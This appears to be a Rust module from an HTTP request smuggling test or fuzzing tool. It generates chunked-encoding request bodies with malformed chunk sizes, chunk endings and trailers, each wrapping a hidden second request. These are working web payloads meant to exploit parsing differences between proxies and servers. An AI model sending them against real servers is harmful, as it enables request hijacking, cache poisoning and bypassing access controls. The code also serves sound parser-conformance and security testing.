//! Bodies in chunks: sizes, ends, trailers.

use crate::case::{post, smuggled};

const CHUNKED: &str = "Transfer-Encoding: chunked\r\n";

/// Lines that a server may read as the size of the chunk that is the hidden request.
pub(crate) fn sizes() -> Vec<(String, String)> {
    let smuggled = smuggled();
    let n = smuggled.len();
    let lines = [
        format!("{n:x}\r\n"),
        format!("{n:X}\r\n"),
        format!("0{n:x}\r\n"),
        format!("{n:016x}\r\n"),
        format!("{n:017x}\r\n"),
        format!("{n:0300x}\r\n"),
        format!("1{n:016x}\r\n"),
        format!("100000000{n:08x}\r\n"),
        format!("1{n:08x}\r\n"),
        format!("ffffffffffffff{n:02x}\r\n"),
        "ffffffffffffffff\r\n".to_owned(),
        "7fffffffffffffff\r\n".to_owned(),
        "8000000000000000\r\n".to_owned(),
        "fffffffffffffffe\r\n".to_owned(),
        format!("+{n:x}\r\n"),
        format!("-{n:x}\r\n"),
        "-0\r\n".to_owned(),
        "-1\r\n".to_owned(),
        format!("0x{n:x}\r\n"),
        format!("0X{n:x}\r\n"),
        format!("x{n:x}\r\n"),
        format!(" {n:x}\r\n"),
        format!("\t{n:x}\r\n"),
        format!("\x0b{n:x}\r\n"),
        format!("{n:x} \r\n"),
        format!("{n:x}\t\r\n"),
        format!("{n:x}\x0b\r\n"),
        format!("{n:x}\0\r\n"),
        format!("\0{n:x}\r\n"),
        format!("{n:x}_\r\n"),
        format!("{:x}_{:x}\r\n", n / 16, n % 16),
        format!("{n:x}g\r\n"),
        format!("{n:x},\r\n"),
        format!("{n:x}.\r\n"),
        format!("{n:x}:\r\n"),
        format!("\"{n:x}\"\r\n"),
        format!("{n:x}h\r\n"),
        format!("{n:x} x\r\n"),
        format!("{n:x} 0\r\n"),
        format!("{n:x};\r\n"),
        format!("{n:x};x\r\n"),
        format!("{n:x};x=y\r\n"),
        format!("{n:x} ; x=y\r\n"),
        format!("{n:x};x=\"a;b\"\r\n"),
        format!("{n:x};x=\"a\r\n"),
        format!("{n:x};x=\"a\r\n0\r\n\r\n\"\r\n"),
        format!("{n:x};x\0\r\n"),
        format!("{n:x};x\ny\r\n"),
        format!("{n:x};x\ry\r\n"),
        format!("{n:x};\n"),
        format!("{n:x};\r"),
        format!("{n:x};{}\r\n", "x".repeat(5_000)),
        format!("{n:x};{}\r\n", "x".repeat(100_000)),
        format!("{n:x}\n"),
        format!("{n:x}\r"),
        format!("{n:x}\r\r\n"),
        format!("{n:x}\n\r\n"),
        format!("\r\n{n:x}\r\n"),
        format!("\n{n:x}\r\n"),
        ";x\r\n".to_owned(),
        "\r\n".to_owned(),
    ];
    let case = |line: String| {
        let chunk = format!("{line}{smuggled}\r\n0\r\n\r\n");
        (format!("chunk size {line:.80?}"), post(CHUNKED, &chunk))
    };
    lines.into_iter().map(case).collect()
}

/// Ends of a chunk, of the last chunk, and trailers; the hidden request follows.
pub(crate) fn ends() -> Vec<(String, String)> {
    let smuggled = smuggled();
    let ends = [
        "3\r\nabc\r\n0\r\n\r\n",
        "3\r\nabc\n0\r\n\r\n",
        "3\r\nabc\r0\r\n\r\n",
        "3\r\nabc0\r\n\r\n",
        "3\r\nabcXX0\r\n\r\n",
        "3\r\nabcd\r\n0\r\n\r\n",
        "3\r\nab\r\n0\r\n\r\n",
        "3\r\nabc\r\n\r\n0\r\n\r\n",
        "3\r\nabc\n\r0\r\n\r\n",
        "3\nabc\n0\n\n",
        "0\r\n\r\n",
        "00\r\n\r\n",
        "0000000000000000000000000000000000\r\n\r\n",
        "0;x\r\n\r\n",
        "0;x=\"\r\n\r\n",
        "0 \r\n\r\n",
        "0\t\r\n\r\n",
        "0x0\r\n\r\n",
        "+0\r\n\r\n",
        "-0\r\n\r\n",
        "0\0\r\n\r\n",
        "0\n\n",
        "0\n\r\n",
        "0\r\n\n",
        "0\r\n\r",
        "0\r\r\n\r\n",
        "0\r\n\rX",
        "0\r\nX",
        "0\r\n",
        "0",
        "\r\n\r\n",
        "\n\n",
        "0\r\nX: y\r\n\r\n",
        "0\r\nX: y\n\n",
        "0\r\nX: y\r\n\n",
        "0\r\nX: y\r\r\n\r\n",
        "0\r\nX : y\r\n\r\n",
        "0\r\n X: y\r\n\r\n",
        "0\r\nX: a\r\n b\r\n\r\n",
        "0\r\nX: a\0b\r\n\r\n",
        "0\r\nno colon\r\n\r\n",
        "0\r\nTransfer-Encoding: chunked\r\n\r\n",
        "0\r\nTransfer-Encoding: identity\r\n\r\n",
        "0\r\nContent-Length: 49\r\n\r\n",
        "0\r\nContent-Length: 0\r\n\r\n",
        "0\r\nHost: other\r\n\r\n",
        "0\r\nConnection: close\r\n\r\n",
        "0\r\nAuthorization: x\r\nCookie: y\r\n\r\n",
    ];
    let long = format!("0\r\n{}\r\n", "X-Fill: 0123456789abcdef\r\n".repeat(5_000));
    let in_trailers = format!("0\r\n{smuggled}");
    let cases = ends.into_iter().map(|end| (end.to_owned(), smuggled.as_str()));
    cases
        .chain([(long, smuggled.as_str()), (in_trailers, "")])
        .map(|(end, rest)| {
            let body = format!("{end}{rest}");
            let begins: String = end.chars().take(80).collect();
            (format!("last chunk {begins:?}"), post(CHUNKED, &body))
        })
        .collect()
}
